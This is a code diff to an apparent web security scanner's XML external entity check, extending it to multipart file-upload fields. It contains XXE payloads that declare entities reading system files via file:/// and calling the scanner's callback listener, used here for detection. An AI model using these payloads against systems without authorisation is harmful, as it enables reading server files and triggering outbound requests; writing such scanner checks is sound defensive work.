@@ -3,7 +3,7 @@
  * place: a public file of the system, or our listener.
  */
 import { askWith, confirmed, notConfirmed } from '#prober/checks/asking.ts';
-import type { Check, CheckResult, Evidence, InputTrial } from '#prober/checks/check.ts';
+import type { Check, CheckResult, Evidence, InputTrial, TriedValue } from '#prober/checks/check.ts';
 import { lineOf, OS_RELEASE, SERVICES } from '#prober/checks/judging/system-files.ts';
 
 export const xmlExternalEntities: Check = {
@@ -20,10 +20,10 @@ export const xmlExternalEntities: Check = {
 };
 
 async function run(trial: InputTrial): Promise<CheckResult> {
-  const takesXml = trial.finding !== undefined || /^\s*</.test(trial.usual) || (trial.parameter.place === 'body' && /xml/.test(trial.requestWith('').body?.type ?? 'xml')) || /xml|soap|svg/i.test(trial.parameter.name);
+  const takesXml = trial.finding !== undefined || /^\s*</.test(trial.usual) || (trial.parameter.place === 'body' && /xml/.test(trial.requestWith('').body?.type ?? 'xml')) || /xml|soap|svg/i.test(trial.parameter.name) || trial.parameter.place === 'multipart';
   if (!takesXml) return notConfirmed('Nothing: the parameter holds no XML.');
   const [one, other] = [trial.word('entity'), trial.word('entity-other')];
-  const inner = await askWith(trial, documentWith(trial, `<!ENTITY whitebox1 "${one}"><!ENTITY whitebox2 "${other}">`, '&whitebox1;&whitebox2;'));
+  const inner = await askWith(trial, valueOf(trial, `<!ENTITY whitebox1 "${one}"><!ENTITY whitebox2 "${other}">`, '&whitebox1;&whitebox2;'));
   const expands = inner?.response.body.includes(`${one}${other}`) === true;
   if (!expands && trial.finding === undefined) return notConfirmed('Entities of the document itself, which did not show.');
   const evidence = (await shownByFile(trial)) ?? (await shownByCallback(trial));
@@ -32,10 +32,10 @@ async function run(trial: InputTrial): Promise<CheckResult> {
 
 async function shownByFile(trial: InputTrial): Promise<Evidence | undefined> {
   for (const file of [OS_RELEASE, SERVICES]) {
-    const attack = await askWith(trial, documentWith(trial, `<!ENTITY whitebox SYSTEM "file:///${file.path}">`, '&whitebox;'));
+    const attack = await askWith(trial, valueOf(trial, `<!ENTITY whitebox SYSTEM "file:///${file.path}">`, '&whitebox;'));
     const text = attack === undefined ? undefined : lineOf(file, attack.response.body);
     if (attack === undefined || text === undefined) continue;
-    const control = await askWith(trial, documentWith(trial, '<!ENTITY whitebox "">', '&whitebox;'));
+    const control = await askWith(trial, valueOf(trial, '<!ENTITY whitebox "">', '&whitebox;'));
     if (control === undefined || lineOf(file, control.response.body) !== undefined) continue;
     return { attack, control, effect: { kind: 'body-contains', text }, lookFor: `The line “${text}” of /${file.path} in the answer to the first request: the parser read the file.` };
   }
@@ -45,14 +45,20 @@ async function shownByFile(trial: InputTrial): Promise<Evidence | undefined> {
 async function shownByCallback(trial: InputTrial): Promise<Evidence | undefined> {
   if (trial.callbacks === undefined) return undefined;
   const url = await trial.callbacks.urlFor(`xml-external-entities ${trial.word('entity-callback')}`);
-  const attack = await askWith(trial, documentWith(trial, `<!ENTITY whitebox SYSTEM "${url}">`, '&whitebox;'));
+  const attack = await askWith(trial, valueOf(trial, `<!ENTITY whitebox SYSTEM "${url}">`, '&whitebox;'));
   await trial.pause(CALLBACK_MS);
   if (attack === undefined || (await trial.callbacks.arrivals(url)).length === 0) return undefined;
-  const control = await askWith(trial, documentWith(trial, '<!ENTITY whitebox "">', '&whitebox;'));
+  const control = await askWith(trial, valueOf(trial, '<!ENTITY whitebox "">', '&whitebox;'));
   return control === undefined ? undefined : { attack, control, effect: { kind: 'callback', url }, lookFor: `A request of the target to ${url}, which only the first document names.` };
 }
 
 const CALLBACK_MS = 1500;
+
+/** A field of files takes the document as one. */
+function valueOf(trial: InputTrial, declarations: string, reference: string): TriedValue {
+  const text = documentWith(trial, declarations, reference);
+  return trial.parameter.place === 'multipart' ? { file: { name: `whitebox-${trial.word('document')}.xml`, type: 'application/xml', text } } : text;
+}
 
 /** The usual document, or the smallest one, with declarations before it and the reference as the text of each element that has text alone. */
 function documentWith(trial: InputTrial, declarations: string, reference: string): string {
